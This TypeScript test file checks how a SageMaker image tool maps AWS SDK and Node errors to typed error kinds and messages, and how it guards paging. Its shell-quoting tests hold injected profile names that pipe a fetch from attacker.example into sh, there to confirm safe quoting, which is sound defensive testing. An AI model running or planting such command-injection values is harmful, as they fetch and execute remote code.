/**
 * Error mapping (src/model/errors.ts): end to end for missing credentials and a refused connection,
 * and directly for the shapes the SDK and Node produce.
 */
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as net from 'node:net';
import * as path from 'node:path';
import { createConnection } from '../../src/aws/clientFactory';
import { AwsError, isAwsError } from '../../src/model/errors';
import { toAwsError } from '../../src/aws/errorMapping';
import { listImagesPage } from '../../src/aws/operations';
import { collectAllPages, RepeatedTokenGuard } from '../../src/requests/paging';
import { connect, expectAwsError, rejection, testTempDir, useEmulator, withAwsEnv } from './helpers';

/** A port that was just free: a server listened on it and closed. */
async function closedPort(): Promise<number> {
  const server = net.createServer();
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as net.AddressInfo;
  await new Promise<void>((resolve) => server.close(() => resolve()));
  return port;
}

describe('src/aws error mapping end to end', function () {
  const emu = useEmulator('empty');

  it('no credentials anywhere (no env keys, empty config and credentials files, IMDS disabled): kind noCredentials, nothing sent', async function () {
    const dir = testTempDir();
    const config = path.join(dir, 'empty-config');
    const credentials = path.join(dir, 'empty-credentials');
    fs.writeFileSync(config, '');
    fs.writeFileSync(credentials, '');
    emu().clearRequests();
    const e = await withAwsEnv(
      { AWS_CONFIG_FILE: config, AWS_SHARED_CREDENTIALS_FILE: credentials, AWS_EC2_METADATA_DISABLED: 'true' },
      async () => {
        assert.equal(process.env.AWS_ACCESS_KEY_ID, undefined);
        const conn = await connect(emu());
        try {
          return await expectAwsError(listImagesPage(conn, {}), 'noCredentials');
        } finally {
          conn.client.destroy();
        }
      },
    );
    assert.equal(e.retryable, false);
    assert.match(e.message, /No AWS credentials were found/);
    assert.deepEqual(emu().calls(), [], 'no unsigned request went out');
    // The root hook's test keys are back.
    assert.equal(process.env.AWS_ACCESS_KEY_ID, 'AKIDTEST');
  });

  it('connection refused (an endpoint on a closed port): kind network, retryable', async function () {
    const port = await closedPort();
    const conn = await createConnection(
      { region: 'us-east-1', endpoint: `http://127.0.0.1:${port}` },
      { maxAttempts: 1, connectionTimeoutMs: 2_000, requestTimeoutMs: 5_000 },
    );
    try {
      const e = await expectAwsError(listImagesPage(conn, {}), 'network');
      assert.equal(e.retryable, true);
      assert.match(e.message, /Could not reach SageMaker in us-east-1/);
      assert.match(e.message, /ECONNREFUSED/);
    } finally {
      conn.client.destroy();
    }
  });
});

describe('toAwsError', function () {
  const ctx = { operation: 'ListImageVersions', imageName: 'my-image', region: 'eu-west-1' };
  const service = (name: string, httpStatusCode: number, message = `${name} happened`) =>
    Object.assign(new Error(message), { name, $fault: 'client', $metadata: { httpStatusCode, requestId: 'req-1' } });

  const CASES: { title: string; error: unknown; kind: AwsError['kind']; retryable: boolean; message?: RegExp }[] = [
    {
      title: 'ResourceNotFound',
      error: service('ResourceNotFound', 400),
      kind: 'notFound',
      retryable: false,
      message: /image “my-image” was not found in eu-west-1/i,
    },
    { title: 'ResourceNotFound with a 404', error: service('ResourceNotFound', 404), kind: 'notFound', retryable: false },
    {
      title: 'ValidationException',
      error: service('ValidationException', 400, "1 validation error detected: Value '0' at 'maxResults'"),
      kind: 'validation',
      retryable: false,
      message: /maxResults/,
    },
    { title: 'ThrottlingException', error: service('ThrottlingException', 400, 'Rate exceeded'), kind: 'throttled', retryable: true },
    { title: 'an unnamed 429', error: service('TooManyRequests', 429), kind: 'throttled', retryable: true },
    {
      title: 'AccessDeniedException',
      error: service('AccessDeniedException', 400),
      kind: 'accessDenied',
      retryable: false,
      message: /ListImageVersions/,
    },
    { title: 'an unnamed 403', error: service('Forbidden', 403), kind: 'accessDenied', retryable: false },
    { title: 'UnrecognizedClientException', error: service('UnrecognizedClientException', 400), kind: 'accessDenied', retryable: false },
    { title: 'ExpiredTokenException', error: service('ExpiredTokenException', 400), kind: 'expiredCredentials', retryable: false },
    {
      title: 'a CredentialsProviderError saying the SSO token expired',
      error: Object.assign(new Error('The SSO session associated with this profile has expired or is otherwise invalid.'), {
        name: 'CredentialsProviderError',
      }),
      kind: 'expiredCredentials',
      retryable: false,
    },
    {
      title: 'a CredentialsProviderError from an empty chain',
      error: Object.assign(new Error('Could not load credentials from any providers'), { name: 'CredentialsProviderError' }),
      kind: 'noCredentials',
      retryable: false,
    },
    {
      title: 'a TimeoutError with ETIMEDOUT (request deadline)',
      error: Object.assign(new Error('a request has exceeded the configured 300 ms requestTimeout.'), {
        name: 'TimeoutError',
        code: 'ETIMEDOUT',
      }),
      kind: 'timeout',
      retryable: true,
    },
    {
      title: 'a socket hang-up the SDK renamed TimeoutError (code ECONNRESET)',
      error: Object.assign(new Error('socket hang up'), { name: 'TimeoutError', code: 'ECONNRESET' }),
      kind: 'network',
      retryable: true,
    },
    {
      title: 'ECONNREFUSED',
      error: Object.assign(new Error('connect ECONNREFUSED 127.0.0.1:9'), { code: 'ECONNREFUSED' }),
      kind: 'network',
      retryable: true,
    },
    {
      title: 'ENOTFOUND',
      error: Object.assign(new Error('getaddrinfo ENOTFOUND nowhere.invalid'), { code: 'ENOTFOUND' }),
      kind: 'network',
      retryable: true,
    },
    {
      title: 'an InternalFailure 500',
      error: service('InternalFailure', 500),
      kind: 'unknown',
      retryable: true,
      message: /internal error \(HTTP 500\)/,
    },
    {
      title: 'an HTML 502 the SDK could not parse',
      error: Object.assign(
        new SyntaxError(`Unexpected token '<', "<html>" is not valid JSON\n  Deserialization error: to see the raw response…`),
        { $metadata: { httpStatusCode: 502 } },
      ),
      kind: 'unknown',
      retryable: true,
      message: /could not be read \(HTTP 502\)\. A proxy/,
    },
    {
      title: 'a thrown string',
      error: 'boom',
      kind: 'unknown',
      retryable: false,
      message: /ListImageVersions failed for image “my-image” in eu-west-1: boom/,
    },
  ];
  for (const c of CASES) {
    it(`maps ${c.title} to ${c.kind}`, function () {
      const e = toAwsError(c.error, ctx);
      assert.ok(isAwsError(e));
      assert.equal(e.kind, c.kind, e.message);
      assert.equal(e.retryable, c.retryable);
      if (c.message) assert.match(e.message, c.message);
    });
  }

  it('keeps code, status, request id and raw text in details, and passes AwsErrors through unchanged', function () {
    const e = toAwsError(service('ResourceNotFound', 400, 'Image with ImageName my-image does not exist.'), {
      operation: 'DescribeImageVersion',
      imageName: 'my-image',
      version: 3,
    });
    assert.deepEqual(e.details, {
      code: 'ResourceNotFound',
      httpStatus: 400,
      requestId: 'req-1',
      rawMessage: 'Image with ImageName my-image does not exist.',
    });
    assert.match(e.message, /^Version 3 of image “my-image” was not found\./);
    assert.equal(toAwsError(e, ctx), e);
  });

  describe('writes (issue 15)', function () {
    const write = (operation: string, extra: object = {}) => ({ operation, imageName: 'my-image', region: 'eu-west-1', ...extra });

    it('ResourceInUse is conflict, not retryable as it is, names the subject and says to wait, with the service’s text as data', function () {
      const e = toAwsError(
        service('ResourceInUse', 400, 'Image version is in use <b>now</b>.'),
        write('DeleteImageVersion', { version: 3 }),
      );
      assert.equal(e.kind, 'conflict');
      assert.equal(e.retryable, false);
      assert.equal(
        e.message,
        'SageMaker refused DeleteImageVersion for version 3 of image “my-image” in eu-west-1 because it is in use or still changing: Image version is in use <b>now</b>. If it is being created, updated or deleted, wait for that to finish, then retry.',
      );
      const byAlias = toAwsError(service('ResourceInUse', 400), write('UpdateImageVersion', { alias: 'prod' }));
      assert.match(byAlias.message, /for the version of image “my-image” with alias “prod” in eu-west-1/);
    });

    it('ResourceInUse on CreateImage says the name is taken', function () {
      const e = toAwsError(
        service('ResourceInUse', 400, 'The Image with ImageName my-image already exists. Please use a different ImageName.'),
        write('CreateImage'),
      );
      assert.equal(e.kind, 'conflict');
      assert.match(e.message, /^An image named “my-image” already exists in eu-west-1 \(or is still being deleted\): The Image with/);
      assert.match(e.message, /Choose another name\.$/);
    });

    it('ResourceLimitExceeded is limitExceeded, not retryable, naming the operation, the subject and what to do', function () {
      const e = toAwsError(service('ResourceLimitExceeded', 400, 'The account-level service limit was exceeded.'), write('CreateImage'));
      assert.equal(e.kind, 'limitExceeded');
      assert.equal(e.retryable, false);
      assert.match(
        e.message,
        /^SageMaker refused CreateImage for image “my-image” in eu-west-1: the account has reached a SageMaker limit\./,
      );
      assert.match(e.message, /The account-level service limit was exceeded\. Delete unused images or versions, or request a higher quota/);
    });

    it('the service’s text in a conflict or limit message is bounded; the log keeps it whole', function () {
      for (const name of ['ResourceInUse', 'ResourceLimitExceeded']) {
        const e = toAwsError(service(name, 400, 'x'.repeat(100_000)), write('CreateImageVersion'));
        assert.ok(e.message.length < 1_400, `${name}: ${e.message.length} characters`);
        assert.equal(e.details.rawMessage?.length, 100_000);
      }
    });

    it('the invalid-state ValidationException of CreateImageVersion says to wait for the image', function () {
      const e = toAwsError(service('ValidationException', 400, 'Image my-image is in an invalid state.'), write('CreateImageVersion'));
      assert.equal(e.kind, 'validation');
      assert.equal(
        e.message,
        'SageMaker refused to create a version of image “my-image”: Image my-image is in an invalid state. Versions can be created once the image is CREATED; wait for it to finish, then retry.',
      );
      const other = toAwsError(service('ValidationException', 400, 'Image my-image is in an invalid state.'), write('UpdateImage'));
      assert.match(other.message, /^SageMaker rejected the request for image “my-image”/);
    });

    it('ResourceNotFound on a write names what was not found, by number or by alias', function () {
      assert.match(
        toAwsError(service('ResourceNotFound', 400), write('DeleteImage')).message,
        /^Image “my-image” was not found in eu-west-1\. It may have been deleted/,
      );
      assert.match(
        toAwsError(service('ResourceNotFound', 400), write('UpdateImageVersion', { version: 4 })).message,
        /^Version 4 of image “my-image” was not found in eu-west-1\./,
      );
      assert.match(
        toAwsError(service('ResourceNotFound', 400), write('DeleteImageVersion', { alias: 'prod' })).message,
        /^Image “my-image” or its alias “prod” was not found in eu-west-1\./,
      );
    });

    it('AccessDenied names the IAM action of every write (sagemaker: and the API name)', function () {
      for (const operation of [
        'CreateImage',
        'CreateImageVersion',
        'UpdateImage',
        'UpdateImageVersion',
        'DeleteImage',
        'DeleteImageVersion',
      ]) {
        const e = toAwsError(service('AccessDeniedException', 400, 'User is not authorized.'), { ...write(operation), profile: 'dev' });
        assert.equal(e.kind, 'accessDenied');
        assert.ok(e.message.includes(`profile “dev” is not allowed sagemaker:${operation}.`), e.message);
      }
    });
  });

  const provider = (name: string, message: string) => Object.assign(new Error(message), { name });

  it("reads the missing profile from each of the SDK's messages", function () {
    const messages: [string, string, string][] = [
      [
        'CredentialsProviderError',
        'Could not resolve credentials using profile: [team ml] in configuration/credentials file(s).',
        'team ml',
      ],
      ['CredentialsProviderError', 'Profile ghost could not be found in shared credentials file.', 'ghost'],
      ['CredentialsProviderError', 'Profile prod.admin was not found.', 'prod.admin'],
      ['TokenProviderError', "Profile 'sso-dev' could not be found in shared credentials file.", 'sso-dev'],
    ];
    for (const [name, message, profile] of messages) {
      const e = toAwsError(provider(name, message), { operation: 'ListImages' });
      assert.equal(e.kind, 'noCredentials', message);
      assert.ok(e.message.startsWith(`Profile “${profile}” was not found`), e.message);
    }
  });

  it('checks the error name before the message: a service error quoting credential hints stays what its name says', function () {
    for (const message of [
      'Could not resolve credentials using profile: [x] in configuration/credentials file(s).',
      'The SSO session has expired. Run aws sso login.',
      'Could not load credentials from any providers',
    ]) {
      const e = toAwsError(service('ValidationException', 400, message), ctx);
      assert.equal(e.kind, 'validation', message);
      assert.equal(e.details.ssoLoginProfile, undefined);
    }
  });

  it('maps the reported 3,000-dash ValidationException at once, and shows a bounded part of a huge message', function () {
    const reported = `The profile ${'-'.repeat(3_000)} could`;
    const t0 = performance.now();
    const e = toAwsError(service('ValidationException', 400, reported), ctx);
    assert.ok(performance.now() - t0 < 1_000, 'linear, not seconds');
    assert.equal(e.kind, 'validation');
    const huge = toAwsError(service('ValidationException', 400, 'x'.repeat(100_000)), ctx);
    assert.ok(huge.message.length < 1_200, `${huge.message.length} characters`);
    assert.equal(huge.details.rawMessage?.length, 100_000, 'the log still gets the whole text');
  });

  describe('the SSO message quotes the login command (src/model/shellQuote.ts)', function () {
    const sso = () =>
      provider(
        'CredentialsProviderError',
        'The SSO session associated with this profile has expired. To refresh this SSO session run aws sso login with the corresponding profile.',
      );

    it('a name with spaces or shell metacharacters is single-quoted', function () {
      assert.match(
        toAwsError(sso(), { operation: 'ListImages', profile: 'my team' }).message,
        /Run aws sso login --profile 'my team', then retry\./,
      );
      const hostile = 'dev; curl https://attacker.example/p | sh #';
      const e = toAwsError(sso(), { operation: 'ListImages', profile: hostile });
      assert.ok(e.message.includes(`Run aws sso login --profile '${hostile}', then retry.`), e.message);
      assert.equal(e.details.ssoLoginProfile, hostile);
    });

    it('a name that cannot be quoted for every shell is not shown in a command', function () {
      for (const profile of ["it's", 'dev\ncurl x | sh', 'a$(b)', 'a‘b']) {
        const e = toAwsError(sso(), { operation: 'ListImages', profile });
        assert.equal(e.kind, 'expiredCredentials');
        assert.ok(!e.message.includes('--profile'), e.message);
        assert.ok(!e.message.includes(profile), e.message);
        assert.match(e.message, /cannot be pasted into bash, zsh and PowerShell safely/);
      }
    });
  });
});

describe('paging guards', function () {
  it('RepeatedTokenGuard passes new tokens, treats "" as the end, and throws on a repeat', function () {
    const guard = new RepeatedTokenGuard('things');
    assert.equal(guard.accept(undefined), undefined);
    assert.equal(guard.accept(''), undefined);
    assert.equal(guard.accept('a'), 'a');
    assert.equal(guard.accept('b'), 'b');
    assert.throws(
      () => guard.accept('a'),
      (e: unknown) => isAwsError(e) && e.details.code === 'RepeatedNextToken' && /things/.test(e.message),
    );
    guard.reset();
    assert.equal(guard.accept('a'), 'a');
  });

  it('collectAllPages stops after maxPages even with fresh tokens', async function () {
    let calls = 0;
    const e = await rejection(
      collectAllPages(
        async () => {
          calls++;
          return { items: [calls], nextToken: `t${calls}` };
        },
        'endless things',
        5,
      ),
    );
    assert.ok(isAwsError(e));
    assert.equal(e.details.code, 'TooManyPages');
    assert.equal(calls, 5);
    assert.deepEqual(
      await collectAllPages(async (t) => (t === undefined ? { items: [1, 2], nextToken: 'n' } : { items: [3] }), 'two pages'),
      [1, 2, 3],
    );
  });
});
